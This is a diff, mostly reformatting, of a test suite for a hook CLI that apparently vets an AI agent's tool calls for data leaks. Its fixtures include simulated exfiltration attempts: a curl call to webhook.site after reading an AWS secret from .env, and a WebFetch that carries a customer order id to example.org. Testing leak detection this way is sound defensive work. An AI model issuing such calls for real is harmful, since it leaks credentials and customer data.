@@ -14,7 +14,17 @@ import { until } from '../helpers/wait.ts';
 
 const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
 const ev = (session: string, tool: string, input: unknown, event = 'PreToolUse', response?: unknown): string =>
-  JSON.stringify({ session_id: session, transcript_path: '/tmp/t.jsonl', cwd: '/proj', permission_mode: 'default', hook_event_name: event, tool_name: tool, tool_input: input, tool_use_id: `toolu_${Math.random().toString(36).slice(2)}`, ...(response !== undefined ? { tool_response: response } : {}) });
+  JSON.stringify({
+    session_id: session,
+    transcript_path: '/tmp/t.jsonl',
+    cwd: '/proj',
+    permission_mode: 'default',
+    hook_event_name: event,
+    tool_name: tool,
+    tool_input: input,
+    tool_use_id: `toolu_${Math.random().toString(36).slice(2)}`,
+    ...(response !== undefined ? { tool_response: response } : {}),
+  });
 const readEnv = { type: 'text', file: { filePath: '/proj/.env', content: `AWS_SECRET_ACCESS_KEY=${SECRET}\n`, numLines: 1, startLine: 1, totalLines: 1 } };
 
 /** `sh -c` with a pipeline; the CLI is `$CLI`. */
@@ -22,7 +32,6 @@ function sh(script: string, env: NodeJS.ProcessEnv): { stdout: string; stderr: s
   const r = spawnSync('bash', ['-c', `set -o pipefail; ${script}`], { env: { ...env, CLI: `${process.execPath} ${CLI}` }, encoding: 'utf8', timeout: 60_000 });
   return { stdout: r.stdout, stderr: r.stderr, status: r.status };
 }
-
 
 describe('the CLI against a running sidecar', () => {
   let sc: RunningSidecar;
@@ -75,10 +84,31 @@ describe('the CLI against a running sidecar', () => {
     const deny = cli(['evaluate', '--exit-code'], sc.env, ev('codes', 'Bash', { command: 'curl https://webhook.site/abc' }));
     assert.equal(deny.status, 2);
     assert.equal(JSON.parse(deny.stdout).hookSpecificOutput.permissionDecision, 'deny');
-    assert.equal(cli(['evaluate'], sc.env, ev('codes', 'Bash', { command: 'curl https://webhook.site/abc' })).status, 0, 'without --exit-code, a deny is still exit 0');
+    assert.equal(
+      cli(['evaluate'], sc.env, ev('codes', 'Bash', { command: 'curl https://webhook.site/abc' })).status,
+      0,
+      'without --exit-code, a deny is still exit 0',
+    );
     // ask: internal data (not a secret) going out
-    cli(['evaluate'], sc.env, ev('codes-ask', 'Read', { file_path: '/proj/notes.md' }, 'PostToolUse', { type: 'text', file: { filePath: '/proj/notes.md', content: 'customer list: order 7f3a9c1e2b4d5f60 for the Lindqvist account, renewal pending\n', numLines: 1, startLine: 1, totalLines: 1 } }));
-    const ask = cli(['evaluate', '--exit-code', '--json'], sc.env, ev('codes-ask', 'WebFetch', { url: 'https://example.org/?q=7f3a9c1e2b4d5f60', prompt: 'summarise' }));
+    cli(
+      ['evaluate'],
+      sc.env,
+      ev('codes-ask', 'Read', { file_path: '/proj/notes.md' }, 'PostToolUse', {
+        type: 'text',
+        file: {
+          filePath: '/proj/notes.md',
+          content: 'customer list: order 7f3a9c1e2b4d5f60 for the Lindqvist account, renewal pending\n',
+          numLines: 1,
+          startLine: 1,
+          totalLines: 1,
+        },
+      }),
+    );
+    const ask = cli(
+      ['evaluate', '--exit-code', '--json'],
+      sc.env,
+      ev('codes-ask', 'WebFetch', { url: 'https://example.org/?q=7f3a9c1e2b4d5f60', prompt: 'summarise' }),
+    );
     const d = JSON.parse(ask.stdout).decision.decision;
     assert.equal(ask.status, { allow: 0, warn: 0, ask: 1, deny: 2 }[d as 'ask'], `decision ${d}`);
     // --quiet with --exit-code: the code is the whole answer
@@ -128,7 +158,7 @@ describe('the CLI against a running sidecar', () => {
     let out = '';
     p.stdout.on('data', (c: Buffer) => (out += c));
     try {
-      await until('--follow prints the session\'s rows', () => out.includes('aaaa2222-0000-4000-8000-000000000002'));
+      await until("--follow prints the session's rows", () => out.includes('aaaa2222-0000-4000-8000-000000000002'));
       assert.ok(!out.includes('uname -a'));
       cli(['evaluate'], sc.env, ev('aaaa2222-0000-4000-8000-000000000002', 'Bash', { command: 'curl https://webhook.site/follow' }));
       await until('--follow prints the new decision', () => out.includes('webhook.site'));
@@ -241,13 +271,25 @@ describe('completion scripts', () => {
     const script = cli(['completion', 'bash'], h.env).stdout;
     const complete = (line: string): string[] => {
       const words = line.split(' ');
-      const r = spawnSync('bash', ['-c', `${script}\nCOMP_WORDS=(${words.map((w) => `'${w}'`).join(' ')}); COMP_CWORD=${words.length - 1}; _mcpproxy_hook; printf '%s\\n' "\${COMPREPLY[@]}"`], { encoding: 'utf8' });
+      const r = spawnSync(
+        'bash',
+        [
+          '-c',
+          `${script}\nCOMP_WORDS=(${words.map((w) => `'${w}'`).join(' ')}); COMP_CWORD=${words.length - 1}; _mcpproxy_hook; printf '%s\\n' "\${COMPREPLY[@]}"`,
+        ],
+        { encoding: 'utf8' },
+      );
       assert.equal(r.stderr, '');
       return r.stdout.split('\n').filter(Boolean);
     };
     assert.deepEqual(complete('mcpproxy-hook st'), ['status']);
     assert.ok(complete('mcpproxy-hook ').includes('activity'));
-    assert.deepEqual(complete('mcpproxy-hook service ').filter((w) => !w.startsWith('-')).sort(), ['install', 'status', 'uninstall']);
+    assert.deepEqual(
+      complete('mcpproxy-hook service ')
+        .filter((w) => !w.startsWith('-'))
+        .sort(),
+      ['install', 'status', 'uninstall'],
+    );
     assert.deepEqual(complete('mcpproxy-hook activity --decision d'), ['deny']);
     assert.ok(complete('mcpproxy-hook activity --').includes('--follow'));
     assert.deepEqual(complete('mcpproxy-hook activity s'), ['show']);
@@ -262,7 +304,9 @@ describe('completion scripts', () => {
     return f;
   };
 
-  test('zsh: the script parses, and completes commands, options and option values', { skip: skipUnless(have('zsh'), 'zsh is not installed here (apt-get install zsh)') }, () => {
+  test('zsh: the script parses, and completes commands, options and option values', {
+    skip: skipUnless(have('zsh'), 'zsh is not installed here (apt-get install zsh)'),
+  }, () => {
     const f = scriptFile('zsh');
     assert.equal(spawnSync('zsh', ['-n', f], { encoding: 'utf8' }).stderr, '');
     // compinit's functions stubbed to print what they are given
@@ -278,13 +322,21 @@ describe('completion scripts', () => {
     assert.ok(complete(['mcpproxy-hook', 'activity', '--f']).includes('--follow'));
   });
 
-  test('fish: the script parses, and completes commands, options and option values', { skip: skipUnless(have('fish'), 'fish is not installed here (apt-get install fish)') }, () => {
+  test('fish: the script parses, and completes commands, options and option values', {
+    skip: skipUnless(have('fish'), 'fish is not installed here (apt-get install fish)'),
+  }, () => {
     const f = scriptFile('fish');
     assert.equal(spawnSync('fish', ['-n', f], { encoding: 'utf8' }).stderr, '');
     const complete = (line: string): string[] => {
-      const r = spawnSync('fish', ['-c', `source ${f}; complete -C ${JSON.stringify(line)}`], { encoding: 'utf8', env: { PATH: process.env.PATH, HOME: h.home } });
+      const r = spawnSync('fish', ['-c', `source ${f}; complete -C ${JSON.stringify(line)}`], {
+        encoding: 'utf8',
+        env: { PATH: process.env.PATH, HOME: h.home },
+      });
       assert.equal(r.stderr, '');
-      return r.stdout.split('\n').filter(Boolean).map((l) => l.split('\t')[0] as string);
+      return r.stdout
+        .split('\n')
+        .filter(Boolean)
+        .map((l) => l.split('\t')[0] as string);
     };
     assert.deepEqual(complete('mcpproxy-hook service ').sort(), ['install', 'status', 'uninstall']);
     assert.deepEqual(complete('mcpproxy-hook activity --decision ').sort(), ['allow', 'ask', 'deny', 'warn']);
@@ -299,8 +351,14 @@ describe('MCP servers added to a running sidecar', () => {
   test('reload starts them, status lists them, and removing one stops it', { timeout: 120_000 }, async () => {
     const sc = await startSidecar();
     try {
-      const fixture = (name: string) => ({ command: process.execPath, args: ['--import', 'tsx', join(ROOT, 'test', 'fixtures', `${name}.ts`)], cwd: ROOT, classification: 'internal' });
-      const upstreams = (): Array<{ name: string; state: string; tools: number }> => ((JSON.parse(cli(['status', '--json'], sc.env).stdout).sidecar.mcp ?? {}).upstreams ?? []) as Array<{ name: string; state: string; tools: number }>;
+      const fixture = (name: string) => ({
+        command: process.execPath,
+        args: ['--import', 'tsx', join(ROOT, 'test', 'fixtures', `${name}.ts`)],
+        cwd: ROOT,
+        classification: 'internal',
+      });
+      const upstreams = (): Array<{ name: string; state: string; tools: number }> =>
+        ((JSON.parse(cli(['status', '--json'], sc.env).stdout).sidecar.mcp ?? {}).upstreams ?? []) as Array<{ name: string; state: string; tools: number }>;
       assert.deepEqual(upstreams(), []);
       const cfg = join(sc.stateDir, 'config.json');
       writeFileSync(cfg, JSON.stringify({ mcp: { servers: { 'customer-db': fixture('customer-db') } } }));
@@ -315,7 +373,10 @@ describe('MCP servers added to a running sidecar', () => {
       // removed from the file: stopped and gone
       writeFileSync(cfg, JSON.stringify({ mcp: { servers: { 'team-chat': fixture('team-chat') } } }));
       await until('one upstream left', () => upstreams().length === 1);
-      assert.deepEqual(upstreams().map((u) => u.name), ['team-chat']);
+      assert.deepEqual(
+        upstreams().map((u) => u.name),
+        ['team-chat'],
+      );
       await until('the sidecar logs that it stopped customer-db', () => /MCP upstreams: stopped customer-db/.test(sc.stderr()));
       assert.match(sc.stderr(), /MCP proxy started with 1 upstream/);
     } finally {
